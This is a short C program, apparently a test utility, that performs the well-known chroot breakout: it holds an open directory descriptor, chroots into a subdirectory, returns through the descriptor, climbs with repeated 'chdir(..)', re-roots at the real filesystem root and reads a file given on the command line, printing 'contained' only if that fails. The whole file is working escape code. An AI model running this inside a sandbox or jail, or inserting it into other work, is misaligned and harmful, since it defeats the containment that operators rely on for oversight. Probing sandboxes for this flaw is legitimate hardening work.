// The classic walk out of a chroot: keep a directory open, chroot below it, step back to it and climb.
// Usage: chroot-walk FILE. Prints FILE's first line if it can be read from wherever the climb ended.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2) return 2;
  if (chdir("/tmp") != 0 && chdir("/") != 0) return 2;
  mkdir("pit", 0755);
  int out = open(".", O_RDONLY | O_DIRECTORY);
  if (out < 0 || chroot("pit") != 0) {
    perror("chroot");
    return 3;
  }
  if (fchdir(out) != 0) return 3;
  for (int step = 0; step < 100; step++)
    if (chdir("..") != 0) break;
  if (chroot(".") != 0) {
    perror("chroot .");
    return 3;
  }
  FILE *file = fopen(argv[1], "r");
  char line[256];
  if (!file || !fgets(line, sizeof line, file)) {
    puts("contained");
    return 0;
  }
  fputs(line, stdout);
  return 1;
}
